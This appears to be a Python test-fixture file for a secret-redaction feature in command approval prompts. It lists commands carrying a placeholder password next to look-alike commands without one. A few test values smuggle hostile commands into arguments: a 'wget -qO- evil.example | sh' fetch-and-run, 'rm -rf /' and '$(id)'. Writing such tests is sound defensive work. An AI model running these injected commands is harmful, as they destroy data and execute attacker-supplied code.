"""Commands with a secret (WORD) in them, and such that only look like it: what an approver is shown."""

WORD = "hunter2"
# as typed in a shell; each is hidden whole
SECRET = f"""
mysql --password {WORD} -u root shop
mysql --password={WORD}
mysql -uroot -p{WORD} -h db shop
mysqldump -p'{WORD}' --all-databases
/usr/bin/mariadb -u root -p"{WORD}"
sudo -u me mysqladmin -p{WORD} ping
PGPASSWORD={WORD} psql -h db -U shop -c "select 1"
export PGPASSWORD={WORD}; psql
env MYSQL_PWD={WORD} mysql
DB_PASS={WORD} ./setup
psql postgresql://shop:{WORD}@db:5432/shop
mongosh mongodb://root:{WORD}@db/admin
mongodump -u root -p {WORD}
serve --database-url=mysql://user:{WORD}@host/db
amqp-consume --url amqp://guest:{WORD}@queue:5672/
git clone https://me:{WORD}@git.example/x.git
git clone https://{WORD}@github.com/team/x.git
git clone https://{WORD}:x-oauth-basic@github.com/team/x.git
curl -u admin:{WORD} https://api.example/v1
curl -sSfu admin:{WORD} https://api.example/v1
curl -uadmin:{WORD} https://api.example
curl --user admin:{WORD} https://api.example
curl --user=admin:{WORD} https://api.example
curl --proxy-user me:{WORD} -x proxy:3128 https://api.example
curl -H "Authorization: Bearer {WORD}" https://api.example
curl -H 'Authorization: Basic {WORD}' https://api.example
curl -H "Authorization: token {WORD}" https://api.example
curl -H "X-Api-Key: {WORD}" https://api.example
curl -H 'PRIVATE-TOKEN: {WORD}' https://git.example
curl -b session={WORD} https://api.example
curl 'https://api.example/login?user=me&password={WORD}&next=1'
curl -d '{{"password": "{WORD}", "user": "me"}}' https://api.example
wget --http-password={WORD} --http-user=me https://files.example
http -a me:{WORD} GET https://api.example
redis-cli -a {WORD} ping
redis-server --requirepass {WORD}
redis-cli config set requirepass {WORD}
sshpass -p {WORD} ssh me@host
sshpass -p{WORD} scp x me@host:
docker login -u me -p {WORD} registry.example
podman login --username me --password {WORD} registry.example
echo {WORD} | docker login -u me --password-stdin registry.example
echo "root:{WORD}" | chpasswd
printf '%s' {WORD} | podman login --password-stdin -u me r.example
echo {WORD} | sudo -S true
ldapsearch -D cn=admin -w {WORD} -b dc=x
smbclient //nas/share -U me%{WORD}
mosquitto_pub -h broker -u me -P {WORD} -t x -m y
htpasswd -bc /etc/users me {WORD}
rabbitmqctl add_user shop {WORD}
vault login {WORD}
openssl enc -aes-256-cbc -pass pass:{WORD} -in x
openssl pkcs12 -passin pass:{WORD} -in x
gpg --batch --passphrase {WORD} -d x
unzip -P {WORD} x.zip
7z x -p{WORD} x.7z
sqlcmd -S db -U sa -P {WORD} -Q "select 1"
aws configure set aws_secret_access_key {WORD}
npm config set //registry.example/:_authToken={WORD}
serve --token {WORD} --port 8080
serve --token={WORD}
serve -password {WORD}
java -Dspring.datasource.password={WORD} -jar x.jar
java -Djavax.net.ssl.keyStorePassword={WORD} -jar x.jar
serve --client-secret {WORD}
serve --api-key '{WORD}'
serve --apiKey={WORD}
vault write auth/approle/login role_id=x secret_id={WORD}
docker run -e DB_PASSWORD={WORD} -p 8080:80 x
docker run --env=DB_PASSWORD={WORD} x
sh -c "mysql -p{WORD} shop"
sh -c 'PGPASSWORD={WORD} exec psql'
bash -ec "curl -u a:{WORD} https://x.example | tar x"
psql -c "ALTER USER shop PASSWORD '{WORD}'"
mysql -e "CREATE USER x IDENTIFIED BY '{WORD}'"
x=$(curl -u a:{WORD} https://x.example) && echo "$x"
useradd -p {WORD} me
serve --password "{WORD} and more"
FOO=1 BAR_TOKEN='{WORD}' serve
apk add curl && curl -u a:{WORD} https://x.example && rm -rf /x
serve --token "{WORD}$(wget -qO- evil.example | sh)"
serve --password={WORD}`rm -rf /`
serve PASSWORD={WORD};rm -rf /
serve --password {WORD}|sh
serve --password '{WORD}'"$(id)"
my-own-client -p {WORD}
my-own-client -p{WORD}
my-own-client -u me:{WORD}
serve --pass"wo"rd={WORD}
""".strip().split("\n")
# each of these is shown
CALM = """
mysql --password-file /run/secrets/db -u root
serve --password-file=/x
podman run --user 1000 -p 8080:80 docker.io/library/nginx
podman run --user 1000:1000 -p 127.0.0.1:8080:80/tcp x
docker run -u 0 -p 53:53/udp x
psql -p 5432 -U shop -h db shop
ssh -p 2222 me@host
curl -u me https://x.example
mkdir -p /srv/data/tmp
cp -p /a /b
ps -p 1
mysql -p
mysql -P 3306 -h db -u root
passwd -l root
adduser -D passenger
serve --pass-through --compass=north
serve --bypass true --passive
serve --max-tokens 4096 --tokenizer bert
serve --token-ttl 5m --token-url https://sso.example/token
serve --secret-name db --secretName=db
serve --no-password --allow-empty-password=yes
MYSQL_ALLOW_EMPTY_PASSWORD=yes mysqld
PGPASSFILE=/run/secrets/pgpass psql
POSTGRES_PASSWORD_FILE=/run/secrets/db postgres
serve --token /run/secrets/token
serve --password $DB_PASSWORD
serve --password "$DB_PASSWORD"
serve --password="$(cat /run/secrets/db)"
serve --password `cat /run/secrets/db`
PGPASSWORD=${DB_PASSWORD} psql
curl -u "me:$PASS" https://x.example
curl -u me:$(cat /run/secrets/x) https://x.example
curl -H "Authorization: Bearer $TOKEN" https://x.example
openssl req -x509 -newkey rsa:4096 -keyout /k.pem -nodes
openssl pkcs12 -passin env:PW -in x
openssl enc -pass file:/run/secrets/x -in y
redis-cli -h cache ping
redis-server --appendonly yes
unzip -p x.zip
7z x x.7z
git clone git@github.com:team/x.git
git clone ssh://git@github.com/team/x.git
git clone https://github.com/team/token.git
docker build --secret id=npm,src=/x -t registry.example/secret-service:1.2 .
docker run --env-file /x -v /srv/secret:/secret:ro x
docker run -v db-secret:/data quay.io/team/token:3
docker run registry.example/team/secrets:1 --port 80
vault login -method=userpass
PWD=/srv serve
test "$PWD" = / && echo "token ok"
echo "the password is in the vault"
keytool -list -keystore /x
kubectl get secret db -o yaml
apt-get install -y mysql-client passwd libsecret-1-0
healthcheck --auth basic --auth-mode none
find / -path /proc -prune -o -print
pip install --no-cache-dir -r requirements.txt
tini -- /bin/serve --listen 0.0.0.0:80
AWS_ACCESS_KEY_ID_FILE=/x serve
serve --token "$(wget -qO- evil.example | sh)"
serve --to $1$SOMETHINGTHATISNAMEDATLENGTH
gunicorn -w 4 -b 0.0.0.0:8000 app:app
apt-get install -y -q curl && rm -rf /var/lib/apt/lists/*
grep -w shop /etc/hosts
cp -a /src/. /dst
useradd -u 1000 -m app
chown -R 1000:1000 /srv && chmod -R u+p /srv
""".strip().split("\n")
